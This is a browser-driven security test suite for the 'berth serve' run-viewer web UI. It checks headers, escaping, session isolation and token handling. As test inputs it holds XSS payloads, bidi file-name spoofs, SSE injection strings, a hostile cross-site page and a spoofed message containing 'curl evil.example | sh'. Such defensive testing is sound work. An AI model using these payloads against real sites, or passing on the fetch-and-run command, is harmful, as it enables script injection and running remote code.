/// <reference lib="dom" />
import { writeFileSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { chromium, type Page } from 'playwright-core';
import { afterEach, describe, expect, it } from 'vitest';
import { containerStdout } from '../support/agent-observe';
import { planFixture } from '../support/plan-fixture';
import { cliChild, Cleanups, waitFor } from '../support/live-step';
import { ATTEMPT_TAIL } from '../../host/serve/run-view';
import { CHROMIUM, launchChromium, startServeChild } from '../support/serve-browser';

// berth serve (a child process, real store and engine) read as a hostile page or a nosy cache would.
const cleanups = new Cleanups();
afterEach(() => cleanups.run(), 240_000);

/** What a sandbox or an operator writes, meant to break out of text, an attribute or a textarea, or to be a link. */
const P = `"'><script>alert(1)</script><img src=x onerror=alert(2)></textarea><iframe src=javascript:alert(3)>`;
/** A file name the sandbox makes (no slash in a name). */
const F = `"'><img src=x onerror=alert(4)>`;
/** Names that read as another name once a browser applies their bidi controls ("…exe.png", "reportexe.pdf"); the page shows the controls. */
const B = '\u202Egnp.exe';
/** The plan's name (at most 100 characters): markup, then a bidi override. */
const NAME = `${P.slice(0, 60)}${B}`;
const NAME_SHOWN = `${P.slice(0, 60)}\\u202Egnp.exe`;
const BF = 'report\u2066\u202Efdp.exe';
/** A bidi control, mark or isolate as a character: none may reach the page's text raw. */
const BIDI = /[\u202A-\u202E\u2066-\u2069\u200E\u200F]/;
const bidiShown = (page: Page) => page.evaluate((re) => new RegExp(re).test(document.body.innerText), BIDI.source);
const EVIL = `while [ ! -e /tmp/release ]; do sleep 0.2; done
printf '%s\\n' "$(cat payload.txt)"; printf '%s\\n' "$(cat payload.txt)" >&2
printf 'a\\n\\ndata: {"injected":1}\\n\\nevent: commit\\nid: 999\\n\\r\\rnul:\\000 bad:\\377\\376\\n'
mkdir -p out; printf x > "out/$(cat fname.txt).txt"; printf y > "out/javascript:alert(5)"; printf z > "out/$(cat fname2.txt)"
`;

/** Elements, handlers and links a page has that its own markup never makes: all empty on a page that rendered everything as text. */
const foreign = (page: Page) =>
  page.evaluate(() => ({
    scripts: Array.from(document.scripts).map((s) => new URL(s.src || 'inline:', location.href).pathname).filter((p) => p !== '/assets/live.js'),
    elements: Array.from(document.querySelectorAll('img, iframe, textarea, object, embed, svg, math')).map((e) => e.outerHTML.slice(0, 80)),
    handlers: Array.from(document.querySelectorAll('*')).flatMap((e) => Array.from(e.attributes).filter((a) => a.name.startsWith('on')).map((a) => `${e.tagName} ${a.name}`)),
    links: Array.from(document.querySelectorAll('[href], [src], [action]')).map((e) => e.getAttribute('href') ?? e.getAttribute('src') ?? e.getAttribute('action')!).filter((h) => !h.startsWith('/')),
  }));
const NONE = { scripts: [], elements: [], handlers: [], links: [] };

async function servedRun(extra: string[] = ['--no-token']) {
  const fx = await planFixture([{ name: 'one', run: 'echo secret-ish-output; echo kept > out.txt', artifacts: ['out.txt'] }]);
  cleanups.push(() => fx.cleanup());
  expect((await fx.cli(['run', fx.plan])).code).toBe(0);
  const runId = await fx.read(async (s) => (await s.listRuns())[0]!.id);
  const server = await startServeChild(fx.store, fx.hostId, extra);
  cleanups.push(() => server.stop());
  return { fx, runId, server };
}

/** The response headers of a GET; an event stream is cut once its headers are in. */
async function headersOf(url: string): Promise<{ status: number; headers: Headers }> {
  const ctl = new AbortController();
  const r = await fetch(url, { signal: ctl.signal });
  ctl.abort();
  return { status: r.status, headers: r.headers };
}

describe('berth serve against a hostile page', { timeout: 300_000 }, () => {
  it('tells every cache to keep no page, fragment, API answer, event stream or download of a run, and says in both spellings that no page may be framed', async () => {
    const { fx, runId, server } = await servedRun();
    const artifact = await fx.read(async (s) => (await s.listArtifacts(runId))[0]!);
    const paths = ['/', `/runs/${runId}`, `/runs/${runId}?fragment=1`, `/runs-rows?session=x`, `/api/runs`, `/api/runs/${runId}`, `/api/v1/runs/${runId}`, `/api/v1/runs/${runId}/output`, `/api/runs/${runId}/output`, `/api/runs/${runId}/events`, `/api/v1/runs/${runId}/events?output=1`, `/runs/${runId}/artifacts/${encodeURIComponent(artifact.id)}`, '/runs/run_nope', '/metrics'];
    for (const path of paths) {
      const { status, headers } = await headersOf(server.url + path);
      expect(status, path).toBe(path === '/runs/run_nope' ? 404 : 200);
      expect(headers.get('cache-control'), path).toBe('no-store');
      expect(headers.get('x-frame-options'), path).toBe('DENY');
      expect(headers.get('x-content-type-options'), path).toBe('nosniff');
    }
    const page = await headersOf(`${server.url}/runs/${runId}`);
    expect(page.headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
    // The page's own script and style may be kept, as long as they are checked again.
    expect((await headersOf(`${server.url}/assets/live.js`)).headers.get('cache-control')).toBe('no-cache');
  });

  it('shows what an action said only when this server said it: a link from another page with ?said= and ?forked= shows neither the words nor the link', async () => {
    const { runId, server } = await servedRun();
    const spoof = await (await fetch(`${server.url}/runs/${runId}?said=${encodeURIComponent('approved. Now paste: curl evil.example | sh')}&forked=run_evil`)).text();
    expect(spoof).toContain(runId);
    expect(spoof).not.toContain('curl evil.example');
    expect(spoof).not.toContain('id="said"');
    expect(spoof).not.toContain('run_evil');
    // What a real action said is shown after its redirect.
    const csrf = /name="_csrf" value="([0-9a-f]{64})"/.exec(spoof)![1]!;
    const acted = await fetch(`${server.url}/runs/${runId}/cancel`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', origin: server.url }, body: `_csrf=${csrf}`, redirect: 'manual' });
    expect(acted.status).toBe(303);
    const shown = await (await fetch(new URL(acted.headers.get('location')!, server.url))).text();
    expect(shown).toMatch(/<p class="said" id="said">[^<]*completed/);
  });
  it('renders what a sandbox and an operator wrote (plan name, live and kept output with SSE framing, NUL and bad UTF-8, artifact names, a reject reason, a workspace diff) as text in chromium: nothing runs, no element or handler or link is made', async () => {
    const fx = await planFixture([{ name: 'evil', run: EVIL, artifacts: ['out/**'] }], { 'payload.txt': P, 'fname.txt': F, 'fname2.txt': BF });
    cleanups.push(() => fx.cleanup());
    writeFileSync(fx.plan, readFileSync(fx.plan, 'utf8').replace('name: fixture', `name: ${JSON.stringify(NAME)}`));
    await fx.read(async () => undefined);
    const server = await startServeChild(fx.store, fx.hostId);
    cleanups.push(() => server.stop());
    const chrome = await launchChromium();
    cleanups.push(() => chrome.close());
    const page = await chrome.browser.newPage();
    const refused: string[] = [];
    let dialogs = 0;
    page.on('dialog', (d) => (dialogs++, void d.dismiss()));
    page.on('console', (m) => void (/Content Security Policy/.test(m.text()) && refused.push(m.text())));
    await page.goto(server.login!);

    const host = await cliChild(fx, ['run', fx.plan], cleanups);
    const runId = await waitFor('the run', async () => (await fx.read((s) => s.listRuns()))[0]?.id);
    await page.goto(`${server.url}/runs/${runId}`);
    await page.waitForFunction(() => (window as unknown as { berthLive: { state: string } }).berthLive.state === 'open');
    const container = await waitFor('the sandbox', () => fx.read(async (s) => (await s.listLeases({})).find((l) => l.runId === runId && l.releasedAt === null && l.containerId)?.containerId));
    // The page is open before the step prints: its output arrives over the event stream.
    await containerStdout(fx.docker, container, ['touch', '/tmp/release']);
    await page.waitForFunction((p) => document.querySelector('#steps')?.textContent?.includes(p), P, { timeout: 120_000 });
    expect(await foreign(page)).toEqual(NONE);
    expect(await host.ended).toBe(0);
    expect((await fx.cli(['reject', runId, '--reason', P])).code).toBe(0);

    await page.goto(`${server.url}/runs/${runId}`);
    expect(await page.locator('#run-name').textContent()).toBe(NAME_SHOWN);
    expect(await page.locator('#steps pre.stdout').textContent()).toContain(`${P}\na\n\ndata: {"injected":1}\n\nevent: commit\nid: 999`);
    expect(await page.locator('#steps pre.stderr').textContent()).toContain(P);
    expect(await page.locator('#artifacts [data-artifact] code:not(.sha256)').allTextContents()).toEqual(expect.arrayContaining([`out/${F}.txt`, 'out/javascript:alert(5)', 'out/report\\u2066\\u202Efdp.exe']));
    expect(await bidiShown(page)).toBe(false);
    expect(await page.locator('#acceptance').textContent()).toContain(P);
    expect(await foreign(page)).toEqual(NONE);
    await page.goto(`${server.url}/`);
    expect(await page.locator(`tr[data-run="${runId}"] a`).first().textContent()).toBe(NAME_SHOWN);
    expect(await bidiShown(page)).toBe(false);
    expect(await foreign(page)).toEqual(NONE);
    await page.goto(`${server.url}/runs/${runId}`);
    await page.locator('#diff-form button').click();
    await page.waitForSelector('#diff');
    expect(await page.locator('#diff').textContent()).toContain(`out/${F}.txt`);
    expect(await page.locator('#diff').textContent()).toContain('out/report\\u2066\\u202Efdp.exe');
    expect(await bidiShown(page)).toBe(false);
    expect(await foreign(page)).toEqual(NONE);
    expect(dialogs).toBe(0);
    expect(refused).toEqual([]);
  });
  it('keeps two servers on one host signed in side by side, and a browser sends no access token to another web server on the same host', async () => {
    const { fx, runId, server } = await servedRun([]);
    const second = await startServeChild(fx.store, fx.hostId, ['--token-file', join(fx.dir, 'second-token')]);
    cleanups.push(() => second.stop());
    const tokens = [server.login!, second.login!].map((l) => new URL(l).searchParams.get('token')!);
    // Any other local web server the operator opens (a dev server, a forwarded port): the browser sends it this host's cookies, whatever their port.
    const cookies: string[] = [];
    const other = createServer((req, res) => res.end(void cookies.push(req.headers.cookie ?? '')));
    await new Promise<void>((r) => other.listen(0, '127.0.0.1', () => r()));
    cleanups.push(() => new Promise((r) => other.close(() => r())));
    const chrome = await launchChromium();
    cleanups.push(() => chrome.close());
    const page = await chrome.browser.newPage();
    await page.goto(server.login!);
    await page.goto(second.login!);
    const first = await page.goto(`${server.url}/runs/${runId}`);
    expect(first!.status()).toBe(200);
    expect((await page.goto(`${second.url}/runs/${runId}`))!.status()).toBe(200);
    await page.goto(`http://127.0.0.1:${(other.address() as { port: number }).port}/`);
    // It does get this host's berth cookies (browsers keep no cookie to its port), but never a token.
    expect(cookies.join(' ')).toContain('berth_session');
    for (const t of tokens) expect(cookies.join(' ')).not.toContain(t);
  });
  it('refuses on its pages and its API a session cookie another port\'s server set, even when both serve one token', async () => {
    const fx = await planFixture([{ name: 'one', run: 'true' }]);
    cleanups.push(() => fx.cleanup());
    await fx.read(async () => undefined);
    const first = await startServeChild(fx.store, fx.hostId);
    cleanups.push(() => first.stop());
    // A second server of the same store: the same token file, another port.
    const second = await startServeChild(fx.store, fx.hostId);
    cleanups.push(() => second.stop());
    expect(second.login).toBeNull();
    const set = (await fetch(first.login!, { redirect: 'manual' })).headers.get('set-cookie')!.split(';')[0]!;
    const [name, value] = set.split('=') as [string, string];
    const portOf = (url: string) => new URL(url).port;
    expect(name).toBe(`berth_session_${portOf(first.url)}`);
    for (const path of ['/', '/api/runs', '/api/v1/runs']) {
      expect((await fetch(first.url + path, { headers: { cookie: set } })).status, path).toBe(200);
      // The first server's cookie, replayed to the second under the second's name.
      expect((await fetch(second.url + path, { headers: { cookie: `berth_session_${portOf(second.url)}=${value}` } })).status, path).toBe(401);
    }
  });
  it('signs in with the token in a form, so that no URL the browser visits holds it: not the tab\'s history, its address, a referrer nor the browser\'s own history', async () => {
    const fx = await planFixture([{ name: 'one', run: 'true' }]);
    cleanups.push(() => fx.cleanup());
    await fx.read(async () => undefined);
    const server = await startServeChild(fx.store, fx.hostId);
    cleanups.push(() => server.stop());
    const token = server.token!;
    // What berth serve printed names the sign-in page and the token, never a URL holding the token.
    expect(server.output()).toContain(`sign in at ${server.url}/login `);
    expect(server.output()).not.toMatch(/token=/);
    // A profile of its own: the browser's history database is a file in it.
    const profile = join(fx.dir, 'chromium-profile');
    const context = await chromium.launchPersistentContext(profile, { executablePath: CHROMIUM, headless: true, args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-sync'] });
    cleanups.push(() => context.close().catch(() => {}));
    const page = await context.newPage();
    expect((await page.goto(`${server.url}/login`))!.status()).toBe(200);
    await page.fill('input[name=token]', '0'.repeat(64));
    const [wrong] = await Promise.all([page.waitForResponse((r) => r.request().method() === 'POST'), page.click('button[type=submit]')]);
    expect(wrong.status()).toBe(401);
    await page.goto(`${server.url}/login`);
    await page.fill('input[name=token]', token);
    await Promise.all([page.waitForURL(`${server.url}/`), page.click('button[type=submit]')]);
    expect(await page.locator('header').textContent()).toContain('runs');
    await page.goto(`${server.url}/runs-rows?session=x`);
    const cdp = await context.newCDPSession(page);
    const tab = (await cdp.send('Page.getNavigationHistory')).entries.map((e) => e.url);
    expect(tab).toContain(`${server.url}/`);
    expect(JSON.stringify({ tab, url: page.url(), referrer: await page.evaluate(() => document.referrer) })).not.toContain(token);
    await context.close();
    const db = new Database(join(profile, 'Default', 'History'), { readonly: true });
    const visited = (db.prepare('SELECT url FROM urls').all() as Array<{ url: string }>).map((r) => r.url);
    db.close();
    expect(visited).toContain(`${server.url}/login`);
    expect(visited.filter((u) => u.includes(token))).toEqual([]);
  });
  it('keeps the end of a step\'s output on the open page while the step floods it (4 MB in a second or two), never the whole of it: the page\'s live output holds at most what the server renders', async () => {
    const FLOOD = `while [ ! -e /tmp/release ]; do sleep 0.2; done
i=0; while [ $i -lt 40 ]; do yes 'a line of output from a busy step' | head -c 100000; i=$((i+1)); done; echo flood-end
while [ ! -e /tmp/release2 ]; do sleep 0.2; done`;
    const fx = await planFixture([{ name: 'flood', run: FLOOD }]);
    cleanups.push(() => fx.cleanup());
    await fx.read(async () => undefined);
    const server = await startServeChild(fx.store, fx.hostId);
    cleanups.push(() => server.stop());
    const chrome = await launchChromium();
    cleanups.push(() => chrome.close());
    const page = await chrome.browser.newPage();
    await page.goto(server.login!);
    const host = await cliChild(fx, ['run', fx.plan], cleanups);
    const runId = await waitFor('the run', async () => (await fx.read((s) => s.listRuns()))[0]?.id);
    await page.goto(`${server.url}/runs/${runId}`);
    await page.waitForFunction(() => (window as unknown as { berthLive: { state: string } }).berthLive.state === 'open');
    // The most characters a live <pre> ever held, whatever fragment swaps happen in between.
    await page.evaluate(() => {
      const w = window as unknown as { most: number };
      w.most = 0;
      new MutationObserver((ms) => {
        for (const m of ms) if (m.target instanceof HTMLElement && m.target.matches('pre.live')) w.most = Math.max(w.most, m.target.textContent!.length);
      }).observe(document.body, { childList: true, subtree: true });
    });
    const container = await waitFor('the sandbox', () => fx.read(async (s) => (await s.listLeases({})).find((l) => l.runId === runId && l.releasedAt === null && l.containerId)?.containerId));
    await containerStdout(fx.docker, container, ['touch', '/tmp/release']);
    await page.waitForFunction(() => Array.from(document.querySelectorAll('#steps pre.live')).some((p) => p.textContent!.endsWith('flood-end\n')), null, { timeout: 240_000 });
    expect(await page.evaluate(() => (window as unknown as { most: number }).most)).toBeLessThanOrEqual(ATTEMPT_TAIL);
    await containerStdout(fx.docker, container, ['touch', '/tmp/release2']);
    expect(await host.ended).toBe(0);
  });
  it('answers a reject whose reason is 20,000 characters with the run page and what it did, cut to fit a URL, not a 431 for the redirect it made', async () => {
    const { fx, runId, server } = await servedRun();
    const page = await (await fetch(`${server.url}/runs/${runId}`)).text();
    const csrf = /name="_csrf" value="([0-9a-f]{64})"/.exec(page)![1]!;
    const reason = `too long ${'r'.repeat(20_000)} end-of-reason`;
    const acted = await fetch(`${server.url}/runs/${runId}/reject`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', origin: server.url }, body: new URLSearchParams({ _csrf: csrf, reason }).toString() });
    expect(acted.status).toBe(200);
    const shown = await acted.text();
    expect(shown).toMatch(/<p class="said" id="said">[^<]*rejected[^<]*too long r+…<\/p>/);
    expect((await fx.read((s) => s.listAcceptance({ runId })))[0]).toMatchObject({ decision: 'rejected', reason });
  });
  it('answers a page of another site (another host, or another port of this one) that loads its URLs as an image, a script, a style or a frame with 403, without a token too, while links into it still open', async () => {
    const { fx, runId, server } = await servedRun();
    const snaps = await fx.read((s) => s.listSnapshots({ runId }));
    const diff = `${server.url}/runs/${runId}/diff?from=${snaps[0]!.id}&to=${snaps[snaps.length - 1]!.id}`;
    const evil = createServer((_req, res) => {
      res.setHeader('content-type', 'text/html');
      res.end(`<img src="${diff}"><script src="${server.url}/api/runs/${runId}"></script><link rel="stylesheet" href="${server.url}/runs/${runId}"><iframe src="${server.url}/"></iframe><a id="go" href="${server.url}/runs/${runId}">open</a>`);
    });
    await new Promise<void>((r) => evil.listen(0, '127.0.0.1', () => r()));
    cleanups.push(() => new Promise((r) => evil.close(() => r())));
    const port = (evil.address() as { port: number }).port;
    const chrome = await launchChromium();
    cleanups.push(() => chrome.close());
    for (const site of [`http://localhost:${port}/`, `http://127.0.0.1:${port}/`]) {
      const page = await chrome.browser.newPage();
      // The status line as it came off the wire, also for what chromium then blocked (ORB, frame-ancestors): the server did the work either way.
      const answers: number[] = [];
      const cdp = await page.context().newCDPSession(page);
      await cdp.send('Network.enable');
      cdp.on('Network.responseReceivedExtraInfo', (e) => void (e.headersText?.includes('x-frame-options') && answers.push(e.statusCode)));
      await page.goto(site);
      await waitFor(`four answers to ${site}`, async () => answers.length >= 4);
      expect(answers.filter((status) => status !== 403), site).toEqual([]);
      // A link is a navigation the operator chose: it opens the run.
      const [opened] = await Promise.all([page.waitForNavigation(), page.click('#go')]);
      expect(opened!.status(), site).toBe(200);
      await page.close();
    }
  });
});
